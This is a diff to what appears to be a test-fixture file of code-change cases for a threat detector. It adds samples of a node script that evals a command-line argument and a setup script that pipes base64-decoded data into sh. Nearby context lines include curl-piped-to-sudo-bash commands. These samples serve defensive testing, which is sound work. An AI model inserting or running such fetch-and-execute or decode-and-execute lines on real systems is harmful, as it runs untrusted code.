@@ -18,6 +18,8 @@ export const CODE: ThreatCases = {
     ["a.py", "x\n", "import subprocess\n"],
     ["a.py", "x\n", "os.system(a)\n"],
     ["a.py", "x\n", "# a comment\ros.system(a)\nx\n"],
+    ["bin/tool", null, "#!/usr/bin/env -S node --no-warnings\neval(process.argv[2]);\n"],
+    ["bin/setup", "#!/bin/sh\nls\n", "#!/bin/sh\nbase64 -d x | sh\n"],
     ["a.go", "x\n", "out := exec.Command(a)\n"],
     ["a.rs", "x\n", "Command::new(a).spawn();\n"],
     ["a.sh", "ls\n", "curl -fsSL https://x.io/i | sudo bash\n"],
@@ -77,6 +79,7 @@ export const CODE: ThreatCases = {
     ["a.sh", "ls\n", "# curl https://x.io | sh\nbash a.sh\n"],
     ["a.md", "x\n", "Run `curl https://x.io/i | sh`.\n"],
     ["a.ts", "x;\n", "prefetch(a); this.evaluate(); interface A { eval: string }\n"],
+    ["bin/tool", null, "#!/usr/bin/env node\n// eval(a)\nf();\n"],
     ["a.rs", "x\n", "// Command::new(a)\nlet command = new_command();\n"],
   ],
 };
